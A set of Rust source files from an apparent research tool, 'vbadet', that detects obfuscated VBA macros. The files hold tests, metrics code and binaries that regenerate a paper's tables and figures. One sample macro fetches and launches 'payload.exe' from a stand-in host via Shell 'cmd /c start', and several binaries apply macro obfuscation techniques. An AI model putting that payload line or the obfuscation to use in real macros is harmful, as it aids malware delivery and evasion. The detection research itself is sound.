        fn string(&mut self) -> Result<String, String> {
            self.expect(b'"')?;
            let mut out = String::new();
            loop {
                match self
                    .bytes
                    .get(self.pos)
                    .copied()
                    .ok_or("unterminated string")?
                {
                    b'"' => {
                        self.pos += 1;
                        return Ok(out);
                    }
                    b'\\' => {
                        self.pos += 1;
                        match self
                            .bytes
                            .get(self.pos)
                            .copied()
                            .ok_or("unterminated escape")?
                        {
                            b'"' => out.push('"'),
                            b'\\' => out.push('\\'),
                            b'u' => {
                                let hex = self
                                    .bytes
                                    .get(self.pos + 1..self.pos + 5)
                                    .ok_or("truncated unicode escape")?;
                                let code = u32::from_str_radix(
                                    std::str::from_utf8(hex).map_err(|_| "bad unicode escape")?,
                                    16,
                                )
                                .map_err(|_| "bad unicode escape")?;
                                out.push(char::from_u32(code).ok_or("bad unicode escape")?);
                                self.pos += 4;
                            }
                            other => return Err(format!("bad escape {:?}", other as char)),
                        }
                        self.pos += 1;
                    }
                    _ => {
                        let rest = std::str::from_utf8(&self.bytes[self.pos..])
                            .map_err(|_| "invalid utf-8".to_string())?;
                        let c = rest.chars().next().ok_or("unterminated string")?;
                        out.push(c);
                        self.pos += c.len_utf8();
                    }
                }
            }
        }

        fn integer(&mut self) -> Result<u64, String> {
            self.skip_ws();
            let start = self.pos;
            while matches!(self.bytes.get(self.pos), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
            std::str::from_utf8(&self.bytes[start..self.pos])
                .ok()
                .and_then(|s| s.parse().ok())
                .ok_or_else(|| format!("expected integer at offset {start}"))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_sink_records_and_snapshots_nothing() {
        let sink = MetricsSink::default();
        assert!(!sink.is_enabled());
        sink.count(Counter::ScanDocs, 5);
        sink.record(Stage::DocNs, 123);
        drop(sink.time(Stage::DocNs));
        assert!(sink.snapshot().is_none());
    }

    #[test]
    fn counters_accumulate_across_clones() {
        let sink = MetricsSink::enabled();
        let clone = sink.clone();
        sink.count(Counter::OleSectors, 3);
        clone.count(Counter::OleSectors, 4);
        let snap = sink.snapshot().unwrap();
        assert_eq!(snap.counter("ole.sectors"), 7);
        assert_eq!(
            snap.counter("zip.parses"),
            0,
            "untouched counters are omitted"
        );
    }

    #[test]
    fn histogram_buckets_are_log2() {
        assert_eq!(bucket_index(0), 0);
        assert_eq!(bucket_index(1), 0);
        assert_eq!(bucket_index(2), 1);
        assert_eq!(bucket_index(3), 1);
        assert_eq!(bucket_index(4), 2);
        assert_eq!(bucket_index(1023), 9);
        assert_eq!(bucket_index(1024), 10);
        assert_eq!(bucket_index(u64::MAX), HISTOGRAM_BUCKETS - 1);
    }

    #[test]
    fn timer_records_one_sample() {
        let sink = MetricsSink::enabled();
        {
            let _t = sink.time(Stage::DocNs);
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
        let snap = sink.snapshot().unwrap();
        let h = &snap.histograms["scan.doc_ns"];
        assert_eq!(h.count, 1);
        assert!(h.total >= 1_000_000, "slept 1ms, recorded {}ns", h.total);
        assert_eq!(h.buckets.iter().sum::<u64>(), 1);
    }

    #[test]
    fn json_round_trips() {
        let sink = MetricsSink::enabled();
        sink.count(Counter::ScanDocs, 42);
        sink.count(Counter::ZipBytesInflated, u64::MAX / 2);
        sink.record(Stage::PoolReorderDepth, 0);
        sink.record(Stage::PoolReorderDepth, 7);
        sink.record(Stage::DocNs, 1_500_000);
        let snap = sink.snapshot().unwrap();
        let parsed = ScanMetrics::from_json(&snap.to_json()).unwrap();
        assert_eq!(parsed, snap);
        assert_eq!(parsed.counters_json(), snap.counters_json());
    }

    #[test]
    fn from_json_tolerates_reformatting() {
        let sink = MetricsSink::enabled();
        sink.count(Counter::ScanDocs, 3);
        sink.record(Stage::DocNs, 9);
        let snap = sink.snapshot().unwrap();
        let squeezed: String = snap.to_json().split_whitespace().collect();
        assert_eq!(ScanMetrics::from_json(&squeezed).unwrap(), snap);
        let padded = snap.to_json().replace(":", " : ").replace(",", " ,\n");
        assert_eq!(ScanMetrics::from_json(&padded).unwrap(), snap);
    }

    #[test]
    fn from_json_rejects_damage() {
        assert!(ScanMetrics::from_json("").is_err());
        assert!(
            ScanMetrics::from_json("{}").is_err(),
            "missing format header"
        );
        assert!(ScanMetrics::from_json(
            "{\"format\":\"vbadet-scan-metrics\",\"version\":99,\"counters\":{},\"histograms\":{}}"
        )
        .is_err());
        assert!(ScanMetrics::from_json(
            "{\"format\":\"other\",\"version\":1,\"counters\":{},\"histograms\":{}}"
        )
        .is_err());
        let sink = MetricsSink::enabled();
        sink.count(Counter::ScanDocs, 3);
        let good = sink.snapshot().unwrap().to_json();
        assert!(ScanMetrics::from_json(&good[..good.len() / 2]).is_err());
        assert!(ScanMetrics::from_json(&format!("{good} trailing")).is_err());
    }

    #[test]
    fn counters_json_is_sorted_and_stable() {
        let sink = MetricsSink::enabled();
        sink.count(Counter::ScanDocs, 1);
        sink.count(Counter::ZipParses, 2);
        sink.count(Counter::ExtractDocs, 3);
        let json = sink.snapshot().unwrap().counters_json();
        assert_eq!(
            json,
            "{\"extract.docs\":3,\"scan.docs\":1,\"zip.parses\":2}"
        );
    }

    #[test]
    fn labels_are_unique() {
        let mut seen = std::collections::HashSet::new();
        for &c in Counter::ALL {
            assert!(
                seen.insert(c.label()),
                "duplicate counter label {}",
                c.label()
            );
        }
        let mut seen = std::collections::HashSet::new();
        for &s in Stage::ALL {
            assert!(
                seen.insert(s.label()),
                "duplicate stage label {}",
                s.label()
            );
        }
    }

    #[test]
    fn render_text_mentions_every_recorded_metric() {
        let sink = MetricsSink::enabled();
        sink.count(Counter::ScanDocs, 2);
        sink.record(Stage::DocNs, 5_000);
        sink.record(Stage::PoolReorderDepth, 3);
        let text = sink.snapshot().unwrap().render_text();
        assert!(text.contains("scan.docs"));
        assert!(text.contains("scan.doc_ns"));
        assert!(text.contains("pool.reorder_depth"));
    }

    #[test]
    fn sink_is_send_and_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<MetricsSink>();
    }
}
