//! Regenerates **Table V**: Accuracy / Precision / Recall for the five
//! classifiers on both feature sets, under stratified k-fold CV.

use vbadet::experiment::{evaluate_all, ExperimentData};
use vbadet_bench::{banner, corpus_spec, folds};

fn main() {
    banner("Table V: Evaluation results of proposed approach");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let results = evaluate_all(&data, folds(), spec.seed);

    println!(
        "{:<12} {:<11} {:>9} {:>10} {:>8} {:>8} {:>7}",
        "Feature set", "Classifier", "Accuracy", "Precision", "Recall", "F2", "AUC"
    );
    let mut current_set = None;
    for r in &results {
        if current_set != Some(r.feature_set) {
            current_set = Some(r.feature_set);
            println!("{}", "-".repeat(70));
        }
        println!(
            "{:<12} {:<11} {:>9.3} {:>10.3} {:>8.3} {:>8.3} {:>7.3}",
            r.feature_set.to_string(),
            r.classifier.name(),
            r.accuracy,
            r.precision,
            r.recall,
            r.f2,
            r.auc
        );
    }

    // The paper's headline claims, restated against these results.
    let best = |set: vbadet_features::FeatureSet| {
        results
            .iter()
            .filter(|r| r.feature_set == set)
            .max_by(|a, b| a.f2.partial_cmp(&b.f2).expect("finite"))
            .expect("non-empty")
    };
    let v = best(vbadet_features::FeatureSet::V);
    let j = best(vbadet_features::FeatureSet::J);
    println!();
    println!(
        "best V: {} F2={:.3}  |  best J: {} F2={:.3}  |  delta={:+.3} (paper: 0.92 vs 0.69, +0.23)",
        v.classifier.name(),
        v.f2,
        j.classifier.name(),
        j.f2,
        v.f2 - j.f2
    );
}
