//! Worker-process shim for the `scan_parallel` benchmark's `--isolate`
//! pass: the whole binary is one isolation worker speaking the frame
//! protocol on stdin/stdout, with the tracking allocator installed as in
//! the production binary.

#[global_allocator]
static ALLOC: vbadet::TrackingAllocator = vbadet::TrackingAllocator;

fn main() {
    std::process::exit(vbadet::worker_main());
}
