//! Regenerates **Figure 7**: ROC curves of the best V-set classifier and
//! the best J-set classifier (by F2), printed as an ASCII plot plus the
//! sampled curve points.

use vbadet::experiment::{evaluate_all, ClassifierEval, ExperimentData};
use vbadet_bench::{banner, corpus_spec, folds};
use vbadet_features::FeatureSet;

fn sample_curve(roc: &[(f64, f64)], fprs: &[f64]) -> Vec<f64> {
    // tpr at given fpr by walking the piecewise-constant curve.
    fprs.iter()
        .map(|&target| {
            let mut tpr = 0.0;
            for &(f, t) in roc {
                if f <= target {
                    tpr = t;
                } else {
                    break;
                }
            }
            tpr
        })
        .collect()
}

fn main() {
    banner("Figure 7: ROC curves (best V classifier vs best J classifier)");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let results = evaluate_all(&data, folds(), spec.seed);

    let best = |set: FeatureSet| -> &ClassifierEval {
        results
            .iter()
            .filter(|r| r.feature_set == set)
            .max_by(|a, b| a.f2.partial_cmp(&b.f2).expect("finite"))
            .expect("non-empty")
    };
    let v = best(FeatureSet::V);
    let j = best(FeatureSet::J);

    // ASCII plot: 61 x 21 grid, V = '#', J = '+', both = '*'.
    const W: usize = 61;
    const H: usize = 21;
    let mut grid = vec![vec![' '; W]; H];
    let plot = |grid: &mut Vec<Vec<char>>, roc: &[(f64, f64)], mark: char| {
        for i in 0..W {
            let fpr = i as f64 / (W - 1) as f64;
            let tpr = sample_curve(roc, &[fpr])[0];
            let row = ((1.0 - tpr) * (H - 1) as f64).round() as usize;
            let cell = &mut grid[row.min(H - 1)][i];
            *cell = if *cell == ' ' || *cell == mark {
                mark
            } else {
                '*'
            };
        }
    };
    plot(&mut grid, &v.roc, '#');
    plot(&mut grid, &j.roc, '+');

    println!("TPR");
    for (r, row) in grid.iter().enumerate() {
        let y = 1.0 - r as f64 / (H - 1) as f64;
        println!("{y:.1} |{}", row.iter().collect::<String>());
    }
    println!("    +{}", "-".repeat(W));
    println!("     0.0 {: >54}", "FPR 1.0");
    println!();
    println!(
        "#  {} on V features: AUC {:.3}  (paper: MLP/V AUC 0.950)",
        v.classifier.name(),
        v.auc
    );
    println!(
        "+  {} on J features: AUC {:.3}  (paper: RF/J  AUC 0.812)",
        j.classifier.name(),
        j.auc
    );

    println!();
    println!("sampled points (fpr -> tpr):");
    let fprs = [0.0, 0.02, 0.05, 0.1, 0.2, 0.3, 0.5, 0.8, 1.0];
    let vt = sample_curve(&v.roc, &fprs);
    let jt = sample_curve(&j.roc, &fprs);
    println!("{:>6} {:>8} {:>8}", "fpr", "V tpr", "J tpr");
    for ((f, tv), tj) in fprs.iter().zip(vt.iter()).zip(jt.iter()) {
        println!("{f:>6.2} {tv:>8.3} {tj:>8.3}");
    }
}
