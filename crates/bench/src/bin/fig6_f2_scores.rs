//! Regenerates **Figure 6**: F2 score per classifier for the proposed V
//! feature set vs the comparison J feature set, as an ASCII bar chart.

use vbadet::experiment::{evaluate_all, ExperimentData};
use vbadet_bench::{banner, bar, corpus_spec, folds};
use vbadet_features::FeatureSet;

fn main() {
    banner("Figure 6: F2 score by classifier and feature set");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let results = evaluate_all(&data, folds(), spec.seed);

    for set in [FeatureSet::V, FeatureSet::J] {
        println!("{set} feature set:");
        for r in results.iter().filter(|r| r.feature_set == set) {
            let label = format!("  {}", r.classifier.name());
            println!("{}", bar(&label, r.f2, 1.0, 50));
        }
        println!();
    }

    let best_v = results
        .iter()
        .filter(|r| r.feature_set == FeatureSet::V)
        .map(|r| r.f2)
        .fold(0.0f64, f64::max);
    let best_j = results
        .iter()
        .filter(|r| r.feature_set == FeatureSet::J)
        .map(|r| r.f2)
        .fold(0.0f64, f64::max);
    println!(
        "max F2: V {:.3} vs J {:.3} (paper: 0.92 vs 0.69; improvement {:+.1}% vs paper's +23%)",
        best_v,
        best_j,
        (best_v - best_j) * 100.0
    );
}
