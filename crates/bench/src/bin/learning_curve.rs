//! Learning curve: F2/AUC on a held-out third of the corpus as the
//! training set grows. Answers "how much labeled data does the method
//! need?" — a deployment question the paper leaves open.

use vbadet::detector::ClassifierKind;
use vbadet::experiment::{learning_curve, ExperimentData};
use vbadet_bench::{banner, bar, corpus_spec};
use vbadet_features::FeatureSet;

fn main() {
    banner("Learning curve (RF on V features, held-out third)");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let fractions = [0.02, 0.05, 0.1, 0.2, 0.4, 0.7, 1.0];
    let points = learning_curve(
        &data,
        FeatureSet::V,
        ClassifierKind::RandomForest,
        &fractions,
        spec.seed,
    );

    println!("{:>12} {:>8} {:>8}", "train size", "F2", "AUC");
    for p in &points {
        println!("{:>12} {:>8.3} {:>8.3}", p.train_size, p.f2, p.auc);
    }
    println!();
    for p in &points {
        let label = format!("n={}", p.train_size);
        println!("{}", bar(&label, p.f2, 1.0, 50));
    }
}
