//! Regenerates **Table VI** (the 20 comparison features from related work),
//! with exemplar values from a plain and an obfuscated macro.

use rand::rngs::StdRng;
use rand::SeedableRng;
use vbadet_features::{j_features, J_NAMES};
use vbadet_obfuscate::{Obfuscator, Technique};

fn main() {
    vbadet_bench::banner("Table VI: Summary of the features used in related work (J1-J20)");
    let plain = "Sub Report()\r\n\
                 \x20   ' Sum the revenue column\r\n\
                 \x20   Dim total As Double\r\n\
                 \x20   Dim row As Long\r\n\
                 \x20   For row = 2 To 200\r\n\
                 \x20       total = total + Cells(row, 3).Value\r\n\
                 \x20   Next row\r\n\
                 \x20   Range(\"C1\").Value = total\r\n\
                 End Sub\r\n";
    let mut rng = StdRng::seed_from_u64(4);
    let obfuscated = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(15))
        .with(Technique::Random)
        .apply(plain, &mut rng)
        .source;

    let pj = j_features(plain);
    let oj = j_features(&obfuscated);
    println!("{:<52} {:>12} {:>12}", "Feature", "plain", "obfuscated");
    println!("{}", "-".repeat(80));
    for ((name, p), o) in J_NAMES.iter().zip(pj.iter()).zip(oj.iter()) {
        println!("{name:<52} {p:>12.4} {o:>12.4}");
    }
}
