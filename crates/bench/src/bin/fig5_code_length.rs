//! Regenerates **Figure 5**: code-length distributions of the
//! non-obfuscated and obfuscated macro groups, as ASCII histograms. The
//! obfuscated histogram shows the paper's characteristic clusters
//! (≈1500 / 3000 / 15000 chars: "a group of VBA macros form a horizontal
//! line").

use vbadet::experiment::fig5;
use vbadet_bench::{banner, bar, corpus_spec};
use vbadet_corpus::generate_macros;

fn histogram(title: &str, lengths: &[usize]) {
    println!("{title} ({} samples)", lengths.len());
    const BUCKETS: [(usize, usize); 10] = [
        (0, 500),
        (500, 1_000),
        (1_000, 2_000),
        (2_000, 4_000),
        (4_000, 6_000),
        (6_000, 9_000),
        (9_000, 12_000),
        (12_000, 16_000),
        (16_000, 24_000),
        (24_000, usize::MAX),
    ];
    let counts: Vec<usize> = BUCKETS
        .iter()
        .map(|&(lo, hi)| lengths.iter().filter(|&&l| l >= lo && l < hi).count())
        .collect();
    let max = *counts.iter().max().unwrap_or(&1) as f64;
    for (&(lo, hi), &count) in BUCKETS.iter().zip(&counts) {
        let label = if hi == usize::MAX {
            format!("{lo:>6}+       ")
        } else {
            format!("{lo:>6}-{hi:<6}")
        };
        println!("  {}", bar(&label, count as f64, max, 50));
    }
    println!();
}

fn main() {
    banner("Figure 5: Code length distribution of VBA macro samples");
    let macros = generate_macros(&corpus_spec());
    let (plain, obf) = fig5(&macros);

    histogram("(a) non-obfuscated macros — roughly uniform", &plain);
    histogram(
        "(b) obfuscated macros — clusters (horizontal lines in the paper)",
        &obf,
    );

    // Cluster check: share of obfuscated samples within 25% of a center.
    let clusters = [1_500usize, 3_000, 15_000];
    for c in clusters {
        let near = obf
            .iter()
            .filter(|&&l| (l as f64 - c as f64).abs() / c as f64 <= 0.25)
            .count();
        println!(
            "cluster ~{c:>6}: {near} macros within +/-25% ({:.0}% of obfuscated)",
            100.0 * near as f64 / obf.len().max(1) as f64
        );
    }
}
