//! Permutation importance of each V feature under a trained Random Forest:
//! which of the paper's 15 features actually carry the decision.

use vbadet::experiment::ExperimentData;
use vbadet_bench::{banner, bar, corpus_spec};
use vbadet_features::V_NAMES;
use vbadet_ml::{permutation_importance, Classifier, RandomForest, StandardScaler};

fn main() {
    banner("Permutation importance (RF on V features)");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let scaler = StandardScaler::fit(&data.v);
    let x = scaler.transform_all(&data.v);
    let mut rf = RandomForest::with_seed(100, 0, spec.seed);
    rf.fit(&x, &data.labels);

    let mut importances = permutation_importance(&rf, &x, &data.labels, 3, spec.seed);
    importances.sort_by(|a, b| b.drop().total_cmp(&a.drop()));

    println!("baseline F2 (training set): {:.3}", importances[0].baseline);
    println!();
    let max = importances[0].drop().max(1e-9);
    for imp in &importances {
        let label: String = V_NAMES[imp.feature].chars().take(28).collect();
        println!("{}", bar(&label, imp.drop().max(0.0), max, 40));
    }
}
