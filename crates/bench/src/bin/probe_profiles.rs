//! Diagnostic: per-profile recall of RF on V vs J features.
use vbadet::detector::ClassifierKind;
use vbadet::experiment::ExperimentData;
use vbadet_bench::corpus_spec;
use vbadet_corpus::ObfuscationProfile;
use vbadet_features::FeatureSet;
use vbadet_ml::cross_validate;

fn main() {
    let data = ExperimentData::from_spec(&corpus_spec());
    for set in [FeatureSet::V, FeatureSet::J] {
        let outcome = cross_validate(
            || ClassifierKind::RandomForest.build(1),
            data.features(set),
            &data.labels,
            5,
            1,
        );
        println!("--- {set} (RF) ---");
        use std::collections::HashMap;
        let mut hit: HashMap<String, (usize, usize)> = HashMap::new();
        for (i, m) in data.macros.iter().enumerate() {
            let key = format!("{:?}|mal={}", m.profile, m.malicious);
            let e = hit.entry(key).or_default();
            e.1 += 1;
            if outcome.predictions[i] == m.obfuscated {
                e.0 += 1;
            }
        }
        let mut keys: Vec<_> = hit.keys().cloned().collect();
        keys.sort();
        for k in keys {
            let (ok, n) = hit[&k];
            println!("{k:<32} {ok}/{n} = {:.2}", ok as f64 / n as f64);
        }
        let _ = ObfuscationProfile::None;
    }
}
