//! Signature-AV baseline (the paper's §III.B motivation, executable):
//! detection rate of IOC-substring matching on plain vs obfuscated
//! malicious macros, compared with the ML detector.

use vbadet::experiment::ExperimentData;
use vbadet::signature::signature_experiment;
use vbadet::{detector::ClassifierKind, experiment::evaluate};
use vbadet_bench::{banner, corpus_spec, folds};
use vbadet_features::FeatureSet;

fn main() {
    banner("Signature baseline vs statistical obfuscation detection");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);

    let (plain_rate, obfuscated_rate) = signature_experiment(&data.macros);
    println!("signature scanner (IOC substrings) on malicious macros:");
    println!("  plain payloads flagged:      {:.1}%", plain_rate * 100.0);
    println!(
        "  obfuscated payloads flagged: {:.1}%",
        obfuscated_rate * 100.0
    );
    println!(
        "  -> obfuscation suppresses signature recall by {:.1} points (§III.B)",
        (plain_rate - obfuscated_rate) * 100.0
    );
    println!();

    // Signature false alarms on the benign population (for context: IOC
    // substrings also fire on legitimate automation).
    let scanner = vbadet::SignatureScanner::new();
    let benign: Vec<_> = data.macros.iter().filter(|m| !m.malicious).collect();
    let benign_hits = benign.iter().filter(|m| scanner.flags(&m.source)).count();
    println!(
        "  false alarms on benign macros: {:.1}%",
        100.0 * benign_hits as f64 / benign.len().max(1) as f64
    );
    println!();

    let ml = evaluate(
        &data,
        FeatureSet::V,
        ClassifierKind::Mlp,
        folds(),
        spec.seed,
    );
    println!("statistical detector (MLP on V features, obfuscation labels):");
    println!("  recall on obfuscated macros: {:.1}%", ml.recall * 100.0);
    println!(
        "  precision:                   {:.1}%",
        ml.precision * 100.0
    );
    println!();
    println!(
        "signatures degrade under string obfuscation ({:.1} -> {:.1}%) and say \
         nothing about *obfuscation itself*; the statistical detector flags the \
         obfuscation mechanisms directly at {:.1}% recall / {:.1}% precision.",
        plain_rate * 100.0,
        obfuscated_rate * 100.0,
        ml.recall * 100.0,
        ml.precision * 100.0,
    );
}
