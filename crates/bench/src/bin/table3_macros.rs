//! Regenerates **Table III**: macros extracted per population and their
//! obfuscation rates — the paper's 1.7% (benign) vs 98.4% (malicious) gap.

use vbadet::experiment::table3;
use vbadet_bench::{banner, corpus_spec};
use vbadet_corpus::generate_macros;

fn main() {
    banner("Table III: Summary of VBA macros extracted from MS Office files");
    let spec = corpus_spec();
    let macros = generate_macros(&spec);
    let (benign, malicious) = table3(&macros);

    println!(
        "{:<22} {:>9} {:>12} {:>22}",
        "Group", "# files", "# macros", "# obfuscated macros"
    );
    println!("{}", "-".repeat(70));
    println!(
        "{:<22} {:>9} {:>12} {:>14} ({:.1}%)",
        "Benign dataset",
        spec.benign_word_files + spec.benign_excel_files,
        benign.macros,
        benign.obfuscated,
        benign.obfuscation_rate() * 100.0
    );
    println!(
        "{:<22} {:>9} {:>12} {:>14} ({:.1}%)",
        "Malicious dataset",
        spec.malicious_word_files + spec.malicious_excel_files,
        malicious.macros,
        malicious.obfuscated,
        malicious.obfuscation_rate() * 100.0
    );
    println!("{}", "-".repeat(70));
    println!(
        "{:<22} {:>9} {:>12} {:>14}",
        "Total",
        spec.total_files(),
        benign.macros + malicious.macros,
        benign.obfuscated + malicious.obfuscated
    );
    println!();
    println!("paper: benign 3380 macros (58 obf, 1.7%), malicious 832 (819 obf, 98.4%)");
}
