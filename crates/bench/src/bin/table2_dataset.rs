//! Regenerates **Table II**: file counts by type and average file sizes of
//! the (synthetic) document corpus. At full scale this builds ~1 GB of real
//! container bytes, streaming them through the extraction check.

use vbadet::experiment::table2;
use vbadet_bench::{banner, corpus_spec};
use vbadet_corpus::generate_macros;

fn main() {
    banner("Table II: Summary of collected MS Office document files");
    let spec = corpus_spec();
    let macros = generate_macros(&spec);
    let (benign, malicious) = table2(&spec, &macros);

    println!(
        "{:<22} {:>7} {:>7} {:>12} {:>14}",
        "Group", "Word", "Excel", "Avg. size", "Total files"
    );
    println!("{}", "-".repeat(68));
    for (name, s) in [("Benign dataset", benign), ("Malicious dataset", malicious)] {
        println!(
            "{:<22} {:>7} {:>7} {:>11.2}MB {:>14}",
            name,
            s.word,
            s.excel,
            s.avg_size() / 1_048_576.0,
            s.files
        );
    }
    println!("{}", "-".repeat(68));
    println!(
        "{:<22} {:>7} {:>7} {:>12} {:>14}",
        "Total",
        benign.word + malicious.word,
        benign.excel + malicious.excel,
        "",
        benign.files + malicious.files
    );
    println!();
    println!("paper: benign 75/698 @1.1MB, malicious 1410/354 @0.06MB, total 2537");
}
