//! SVM hyperparameter sweep: cross-validated F2 over a (C, γ) grid around
//! the paper's §IV.D choice of `C = 150`, `γ = 0.03`.

use vbadet::experiment::{sweep_svm, ExperimentData};
use vbadet_bench::{banner, corpus_spec, folds};

fn main() {
    banner("SVM (C, gamma) sweep on V features");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let cs = [1.0, 10.0, 150.0, 1000.0];
    let gammas = [0.003, 0.03, 0.3, 3.0];
    let points = sweep_svm(&data, &cs, &gammas, folds().min(5), spec.seed);

    print!("{:>10} |", "C \\ gamma");
    for g in gammas {
        print!(" {g:>8}");
    }
    println!();
    println!("{}", "-".repeat(12 + 9 * gammas.len()));
    for &c in &cs {
        print!("{c:>10} |");
        for &g in &gammas {
            let p = points
                .iter()
                .find(|p| p.c == c && p.gamma == g)
                .expect("grid point computed");
            print!(" {:>8.3}", p.f2);
        }
        println!();
    }
    let best = points
        .iter()
        .max_by(|a, b| a.f2.total_cmp(&b.f2))
        .expect("non-empty grid");
    println!();
    println!(
        "best: C={} gamma={} (F2 {:.3}); paper's choice: C=150 gamma=0.03",
        best.c, best.gamma, best.f2
    );
}
