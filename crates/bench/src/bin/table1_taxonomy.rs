//! Regenerates **Table I** (the obfuscation-technique taxonomy) as living
//! documentation: each row is demonstrated by actually running the
//! corresponding transform on a sample macro.

use rand::rngs::StdRng;
use rand::SeedableRng;
use vbadet_obfuscate::{Obfuscator, Technique};

fn main() {
    vbadet_bench::banner("Table I: Type of obfuscation techniques");
    let sample = "Sub Fetch()\r\n\
                  \x20   Dim target As String\r\n\
                  \x20   target = \"http://example.test/payload.exe\"\r\n\
                  \x20   Shell \"cmd /c start \" & target, 0\r\n\
                  End Sub\r\n";

    println!("{:<4} {:<22} {:<28} demonstration", "#", "Type", "Method");
    println!("{}", "-".repeat(100));
    let rows: [(&str, &str, &str, Technique); 4] = [
        (
            "O1",
            "Random obfuscation",
            "Randomize name",
            Technique::Random,
        ),
        ("O2", "Split obfuscation", "Split strings", Technique::Split),
        (
            "O3",
            "Encoding obfuscation",
            "Encode strings",
            Technique::Encoding,
        ),
        (
            "O4",
            "Logic obfuscation",
            "Insert and reorder code",
            Technique::LogicWithIntensity(6),
        ),
    ];
    for (id, kind, method, technique) in rows {
        let mut rng = StdRng::seed_from_u64(0xD5);
        let out = Obfuscator::new().with(technique).apply(sample, &mut rng);
        let first_diff = out
            .source
            .lines()
            .find(|l| !sample.contains(*l) && !l.trim().is_empty())
            .unwrap_or("(reordered)");
        let shown: String = first_diff.trim().chars().take(44).collect();
        println!("{id:<4} {kind:<22} {method:<28} {shown}");
    }

    println!();
    println!("Original macro:");
    for line in sample.lines() {
        println!("    {line}");
    }
}
