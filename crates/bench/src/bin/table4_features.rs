//! Regenerates **Table IV** (the 15 proposed static features), extracting
//! an exemplar vector from a plain and an obfuscated macro side by side.

use rand::rngs::StdRng;
use rand::SeedableRng;
use vbadet_features::{v_features, V_NAMES};
use vbadet_obfuscate::{Obfuscator, Technique};

fn main() {
    vbadet_bench::banner("Table IV: Summary of 15 static features (V1-V15)");
    let plain = "Sub Report()\r\n\
                 \x20   ' Sum the revenue column\r\n\
                 \x20   Dim total As Double\r\n\
                 \x20   Dim row As Long\r\n\
                 \x20   For row = 2 To 200\r\n\
                 \x20       total = total + Cells(row, 3).Value\r\n\
                 \x20   Next row\r\n\
                 \x20   Range(\"C1\").Value = total\r\n\
                 End Sub\r\n";
    let mut rng = StdRng::seed_from_u64(4);
    let obfuscated = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(15))
        .with(Technique::Random)
        .apply(plain, &mut rng)
        .source;

    let pv = v_features(plain);
    let ov = v_features(&obfuscated);
    println!("{:<52} {:>12} {:>12}", "Feature", "plain", "obfuscated");
    println!("{}", "-".repeat(80));
    for ((name, p), o) in V_NAMES.iter().zip(pv.iter()).zip(ov.iter()) {
        println!("{name:<52} {p:>12.4} {o:>12.4}");
    }
}
