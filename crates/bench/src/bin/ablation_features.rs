//! Ablation study over the V-feature groups (DESIGN.md §5): retrain with
//! each technique-targeting group removed and measure the F2/AUC cost.
//! Quantifies which obfuscation techniques each group actually pays for.

use vbadet::detector::ClassifierKind;
use vbadet::experiment::{ablate_v_groups, ExperimentData};
use vbadet_bench::{banner, corpus_spec, folds};

fn main() {
    banner("Ablation: V-feature groups (paper §IV.C design choices)");
    let spec = corpus_spec();
    let data = ExperimentData::from_spec(&spec);
    let (baseline, rows) = ablate_v_groups(&data, ClassifierKind::RandomForest, folds(), spec.seed);

    println!(
        "baseline (all 15 features, RF): F2 {:.3}, AUC {:.3}",
        baseline.f2, baseline.auc
    );
    println!();
    println!(
        "{:<38} {:>8} {:>8} {:>9}",
        "group removed", "F2", "AUC", "F2 drop"
    );
    println!("{}", "-".repeat(68));
    for row in &rows {
        println!(
            "{:<38} {:>8.3} {:>8.3} {:>+9.3}",
            row.group, row.f2, row.auc, row.f2_drop
        );
    }
    println!();
    let critical = rows
        .iter()
        .max_by(|a, b| a.f2_drop.total_cmp(&b.f2_drop))
        .expect("non-empty");
    println!(
        "most load-bearing group: {} ({:+.3} F2)",
        critical.group, critical.f2_drop
    );
}
