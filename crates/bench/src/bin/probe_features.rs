//! Diagnostic: single-feature AUC for every V and J feature.
use vbadet::experiment::ExperimentData;
use vbadet_bench::corpus_spec;
use vbadet_features::{J_NAMES, V_NAMES};

fn main() {
    let data = ExperimentData::from_spec(&corpus_spec());
    let rank = |x: &[Vec<f64>], names: &[&str]| {
        for (f, name) in names.iter().enumerate() {
            let scores: Vec<f64> = x.iter().map(|r| r[f]).collect();
            let auc = vbadet_ml::auc(&data.labels, &scores);
            println!("{:<55} auc {:.3}", name, auc.max(1.0 - auc));
        }
    };
    println!("--- V ---");
    rank(&data.v, &V_NAMES);
    println!("--- J ---");
    rank(&data.j, &J_NAMES);
}
