//! Shared plumbing for the table/figure regeneration binaries and the
//! Criterion benchmarks.
//!
//! Every binary accepts the corpus scale through the `VBADET_SCALE`
//! environment variable (default `1.0` = the paper's full 4,212-macro
//! corpus; e.g. `VBADET_SCALE=0.1` for a quick pass) and the fold count
//! through `VBADET_FOLDS` (default 10, as in §V).

use vbadet_corpus::CorpusSpec;

/// Reads `VBADET_SCALE` (default 1.0).
pub fn scale() -> f64 {
    std::env::var("VBADET_SCALE")
        .ok()
        .and_then(|s| s.parse().ok())
        .filter(|&f| f > 0.0 && f <= 1.0)
        .unwrap_or(1.0)
}

/// Reads `VBADET_FOLDS` (default 10).
pub fn folds() -> usize {
    std::env::var("VBADET_FOLDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .filter(|&k| k >= 2)
        .unwrap_or(10)
}

/// The corpus spec for the configured scale.
pub fn corpus_spec() -> CorpusSpec {
    let f = scale();
    let spec = CorpusSpec::paper();
    if (f - 1.0).abs() < f64::EPSILON {
        spec
    } else {
        spec.scaled(f)
    }
}

/// Prints a banner naming the experiment and its configuration.
pub fn banner(what: &str) {
    let spec = corpus_spec();
    println!("=== {what} ===");
    println!(
        "corpus: scale {:.3} -> {} macros / {} files (seed {:#x}), {} folds",
        scale(),
        spec.total_macros(),
        spec.total_files(),
        spec.seed,
        folds(),
    );
    println!();
}

/// Renders an ASCII histogram line: `label | ####### value`.
